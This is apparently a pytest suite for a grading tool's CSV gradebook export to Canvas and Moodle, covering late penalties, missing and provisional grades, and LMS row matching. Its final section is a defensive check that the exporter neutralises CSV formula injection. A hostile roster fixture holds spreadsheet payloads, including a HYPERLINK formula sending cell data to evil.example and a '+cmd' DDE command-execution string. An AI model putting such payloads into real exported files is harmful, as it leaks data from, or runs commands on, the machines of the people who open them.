"""The grades as CSV (grader/export.py), from a course gradebook filled without kernels: one row per
roster student, totals after the late penalty, a missing submission an empty cell (never a 0 that
looks earned), provisional totals named, and the columns Canvas and Moodle import."""
import csv
import dataclasses
import datetime

import pytest

from grader import pipeline
from grader.export import export
from grader.late_policy import penalty_config
from grader.roster import import_roster
from grader.submission import Status, Submission
from support.grading import A1, DUE, grade_without_kernel, open_batch, submission_file
from support.grading import ROSTER as COURSE_ROSTER

HOUR = datetime.timedelta(hours=1)
# the course's roster's first three students, swilson without an e-mail address or LMS user id (what
# Moodle's and Canvas's imports match a row by)
ROSTER = "".join(COURSE_ROSTER.splitlines(keepends=True)[:4]).replace("sam.wilson@uni.example,103", ",")


@pytest.fixture(scope="module")
def graded_course(course, tmp_path_factory):
    """Roster of three; jdoe on time, jsmith 30 h late at 10 %/day, swilson missing."""
    tmp = tmp_path_factory.mktemp("export")
    (tmp / "roster.csv").write_text(ROSTER)
    with open_batch(course, tmp, due=DUE, late_penalty=penalty_config("10%/day")) as batch:
        import_roster(batch.course, tmp / "roster.csv")
        batch.prepare()
        template = grade_without_kernel(submission_file(course, tmp, "template"), batch)
        for student, when in (("jdoe", DUE - HOUR), ("jsmith", DUE + 30 * HOUR)):
            pipeline.record(dataclasses.replace(template, student=student, submitted_at=when), batch)
        return batch.course, template.score


def _rows(course, fmt, tmp_path):
    path, count, notes = export(course, tmp_path / f"{fmt}.csv", fmt)
    with open(path, newline="") as handle:
        rows = list(csv.reader(handle))
    return rows, notes


def test_long_one_row_per_student_with_the_penalty(graded_course, tmp_path):
    course, score = graded_course
    rows, notes = _rows(course, "long", tmp_path)
    by = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert sorted(by) == ["jdoe", "jsmith", "swilson"]
    assert by["jdoe"]["status"] == Status.GRADED and by["jdoe"]["late"] == ""
    assert float(by["jdoe"]["total"]) == float(by["jdoe"]["raw_total"]) == score
    late = by["jsmith"]
    assert late["late"] == "yes" and float(late["seconds_late"]) == pytest.approx(30 * 3600, abs=2)
    assert float(late["penalty"]) == pytest.approx(0.2 * score) and float(late["total"]) == pytest.approx(0.8 * score)
    assert by["swilson"]["status"] == Status.MISSING and by["swilson"]["total"] == ""
    assert by["jdoe"]["provisional"] == "yes", "the written answer waits for a manual grade"
    assert any("provisional" in note for note in notes)


def test_wide_names_late_missing_and_provisional(graded_course, tmp_path):
    course, _ = graded_course
    rows, _ = _rows(course, "wide", tmp_path)
    assert rows[0] == ["student", A1, "late", "missing", "provisional"]
    by = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by["jsmith"]["late"] == A1 and by["jdoe"]["late"] == ""
    assert by["swilson"]["missing"] == A1 and by["swilson"][A1] == ""


def test_canvas_and_moodle_columns_and_what_they_cannot_match(graded_course, tmp_path):
    course, score = graded_course
    canvas, notes = _rows(course, "canvas", tmp_path)
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", A1]
    assert canvas[1][0] == "Points Possible"
    ids = {r[3]: r for r in canvas[2:]}
    assert ids["jdoe"][:2] == ["Doe, Jane", "101"] and float(ids["jdoe"][5]) == score
    assert any("without an lms_user_id (swilson" in note for note in notes)
    moodle, notes = _rows(course, "moodle", tmp_path)
    assert moodle[0] == ["First name", "Last name", "Email address", A1]
    assert sorted(r[2] for r in moodle[1:]) == ["jane.doe@uni.example", "john.smith@uni.example"]
    assert notes[0] == "left out, no e-mail address (Moodle matches rows by it; import a roster with email): swilson"


def test_moodle_never_gets_an_empty_grade_cell(graded_course, tmp_path):
    """Moodle's import reads an empty cell as "no grade" and clears the grade it had
    (grade/import/csv/classes/load_data.php): a student without a grade is left out, and named.
    (Runs after the test above: it gives swilson, missing, an e-mail address.)"""
    course, _ = graded_course
    with_email = tmp_path / "roster.csv"
    with_email.write_text("id,email\nswilson,sam@uni.example\n")
    import_roster(course, with_email)
    moodle, notes = _rows(course, "moodle", tmp_path)
    assert all(row[3] for row in moodle[1:]) and "sam@uni.example" not in [row[2] for row in moodle[1:]]
    assert notes[0] == "left out, no grade to send (an empty cell would clear the grade in Moodle): swilson"


def test_the_moodle_format_holds_one_assignment(course, tmp_path):
    from grader.release import generate_release
    grading = course.with_grading_dir(tmp_path / "course")
    for aid in ("a1_self_attention", "a2_multihead_masking"):
        generate_release(grading, aid, tmp_path / "release")
    with pytest.raises(ValueError, match="the moodle format holds one assignment"):
        export(grading, tmp_path / "m.csv", "moodle")


def test_a_not_graded_submission_is_provisional_not_zero(course, tmp_path):
    with open_batch(course, tmp_path) as batch:
        batch.prepare()
        pipeline.record(Submission("eve", None, status=Status.NOT_GRADED, reason="invalid JSON"), batch)
        rows, _ = _rows(batch.course, "long", tmp_path)
    [eve] = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert eve["status"] == Status.NOT_GRADED and eve["provisional"] == "yes"


def test_an_unknown_format_says_which_there_are(course, tmp_path):
    with pytest.raises(ValueError, match="choose one of long, wide, canvas, moodle"):
        export(course.with_grading_dir(tmp_path), tmp_path / "x.csv", "excel")


# the instructor's own Canvas gradebook export (canvas-lms lib/gradebook_exporter.rb), with a BOM
CANVAS_GRADEBOOK = "\ufeff" + "\r\n".join([
    "Student,ID,SIS User ID,SIS Login ID,Section,Assignment 1 (12345),Quiz 1 (222),Current Score,Final Score",
    "    Points Possible,,,,,18.00,5.00,(read only),(read only)",
    '"Doe, Jane",101,S1,jdoe,"Section A, Tuesdays",,4.00,80.00,80.00',
    '"Smith, John",102,S2,jsmith,"Section A, Tuesdays",7.00,5.00,60.00,60.00',
    '"Other, Ann",777,S9,aother,"Section A, Tuesdays",12.00,3.00,75.00,75.00',
]) + "\r\n"


def test_canvas_template_fills_only_the_assignment_column(graded_course, tmp_path):
    from grader.export import parse_maps
    course, score = graded_course
    template = tmp_path / "canvas-gradebook.csv"
    template.write_bytes(CANVAS_GRADEBOOK.encode("utf-8"))
    path, written, notes = export(course, tmp_path / "filled.csv", "canvas", template=template,
                                  maps=parse_maps([f'{A1}="Assignment 1 (12345)"']))
    before = CANVAS_GRADEBOOK.encode("utf-8").split(b"\r\n")
    after = path.read_bytes().split(b"\r\n")
    assert after[:2] == before[:2] and after[4:] == before[4:], "header, points and other students untouched"
    assert after[2] == f'"Doe, Jane",101,S1,jdoe,"Section A, Tuesdays",{score:g},4.00,80.00,80.00'.encode()
    assert after[3] == f'"Smith, John",102,S2,jsmith,"Section A, Tuesdays",{0.8 * score:g},5.00,60.00,60.00'.encode()
    assert written == 2 and notes[0] == f"filled: {A1} -> Assignment 1 (12345)"
    assert any("no lms_user_id" in note and "swilson" in note for note in notes)


def test_canvas_template_says_which_columns_it_has(graded_course, tmp_path):
    from grader.export import parse_maps
    course, _ = graded_course
    template = tmp_path / "canvas-gradebook.csv"
    template.write_bytes(CANVAS_GRADEBOOK.encode("utf-8"))
    with pytest.raises(ValueError, match=r"none of a1_self_attention has a column .* --map a1_self_attention="):
        export(course, tmp_path / "x.csv", "canvas", template=template)
    with pytest.raises(ValueError, match=r"no such column .* Assignment 1 \(12345\), Quiz 1 \(222\)"):
        export(course, tmp_path / "x.csv", "canvas", template=template, maps=parse_maps([f"{A1}=Essay (9)"]))
    with pytest.raises(ValueError, match="expected ASSIGNMENT_ID="):
        parse_maps(["just a title"])


# ---- no cell is a formula, and the LMSs still match every student ----

HOSTILE_ROSTER = '''id,first_name,last_name,email,lms_user_id
jdoe,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),jane.doe@uni.example,101
-2+3,+cmd|' /C calc'!A0,Smith,john.smith@uni.example,102
mallory,Mal,"\tTab",-mallory@uni.example,103
'''


@pytest.fixture(scope="module")
def hostile_course(course, tmp_path_factory):
    """Students whose names, id and e-mail (as a roster or Moodle gives them) begin as formulas;
    all three graded."""
    tmp = tmp_path_factory.mktemp("hostile")
    (tmp / "roster.csv").write_text(HOSTILE_ROSTER)
    with open_batch(course, tmp) as batch:
        import_roster(batch.course, tmp / "roster.csv")
        batch.prepare()
        template = grade_without_kernel(submission_file(course, tmp, "template"), batch)
        for student in ("jdoe", "-2+3", "mallory"):
            pipeline.record(dataclasses.replace(template, student=student), batch)
        return batch.course, template.score


@pytest.mark.parametrize("fmt", ["long", "wide", "canvas", "moodle"])
def test_no_cell_of_an_export_is_a_formula(hostile_course, tmp_path, fmt):
    from grader.csv_cells import is_formula
    course, _ = hostile_course
    rows, _ = _rows(course, fmt, tmp_path)
    live = [cell for row in rows for cell in row if is_formula(cell)]
    assert not live, f"{fmt}: cells a spreadsheet would run: {live}"
    text = "\n".join(",".join(row) for row in rows)
    assert "'-2+3" in text or fmt == "moodle", "the disarmed text is still there to read"


def test_canvas_still_matches_every_student_by_id(hostile_course, tmp_path):
    """Canvas's importer takes a row's student from its ID column (canvas-lms gradebook_importer.rb,
    process_student: row[1].to_i), before SIS ids or the name: the ID is digits, never quoted."""
    course, score = hostile_course
    rows, _ = _rows(course, "canvas", tmp_path)
    by_id = {row[1]: row for row in rows[2:]}
    assert set(by_id) == {"101", "102", "103"}
    assert all(float(row[5]) == score for row in by_id.values())
    assert by_id["101"][0] == "'@SUM(1+1), =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert by_id["102"][3] == "'-2+3", "SIS Login ID is quoted; Canvas matched the row by ID already"


def test_moodle_still_matches_by_email_and_names_whom_it_cannot(hostile_course, tmp_path):
    """Moodle's import matches the mapped column (Email address) by equality: e-mails are written
    as they are, and a student whose e-mail would need the quote is left out and named."""
    course, score = hostile_course
    rows, notes = _rows(course, "moodle", tmp_path)
    roster = {"jane.doe@uni.example": "jdoe", "john.smith@uni.example": "-2+3"}
    assert {row[2]: roster.get(row[2]) for row in rows[1:]} == roster, "every row matches one roster e-mail"
    hyperlink = "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert sorted(row[:2] for row in rows[1:]) == [["'+cmd|' /C calc'!A0", "Smith"], [hyperlink, "'@SUM(1+1)"]]
    assert any(note.startswith("left out, an e-mail address a spreadsheet would run") and note.endswith(": mallory")
               for note in notes), notes


def test_long_and_wide_read_back_to_the_roster_ids(hostile_course, tmp_path):
    course, _ = hostile_course
    for fmt in ("long", "wide"):
        rows, _ = _rows(course, fmt, tmp_path)
        assert sorted(row[0].removeprefix("'") for row in rows[1:]) == ["-2+3", "jdoe", "mallory"]


@pytest.mark.parametrize("value, written", [
    ("-3.5", "-3.5"), ("+2", "+2"), ("1e-3", "1e-3"), ("-1E+5", "-1E+5"), (-3.5, -3.5), ("EX", "EX"), ("", ""),
    ("-1+1", "'-1+1"), ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd", "'+cmd"), ("\t=1", "'\t=1"),
    ("\rx", "'\rx"), ("-", "'-"), ("jane@uni.example", "jane@uni.example"),
])
def test_a_cell_is_quoted_only_where_a_spreadsheet_would_run_it(value, written):
    from grader.csv_cells import safe_cell
    assert safe_cell(value) == written


def test_canvas_template_disarms_formulas_and_keeps_every_other_byte(hostile_course, tmp_path):
    from grader.export import parse_maps
    course, score = hostile_course
    gradebook = "\r\n".join([
        "Student,ID,SIS User ID,SIS Login ID,Section,Assignment 1 (12345),Quiz 1 (222)",
        "    Points Possible,,,,,18.00,10.00",
        '"=HYPERLINK(""http://evil.example/"")",101,S1,jdoe,A,,-3.5',
        'Other,777,S9,aother,A,,4.00',
        '@evil,778,S8,evil,A,,4.00',
    ]) + "\r\n"
    template = tmp_path / "canvas-gradebook.csv"
    template.write_bytes(gradebook.encode())
    path, _, _ = export(course, tmp_path / "filled.csv", "canvas", template=template,
                        maps=parse_maps([f'{A1}="Assignment 1 (12345)"']))
    after = path.read_bytes().decode().split("\r\n")
    before = gradebook.split("\r\n")
    assert after[:2] == before[:2] and after[3] == before[3], "rows without a formula keep every byte"
    assert after[2] == f'"\'=HYPERLINK(""http://evil.example/"")",101,S1,jdoe,A,{score:g},-3.5'
    assert after[4] == "'@evil,778,S8,evil,A,,4.00", "a row not graded here is disarmed too"
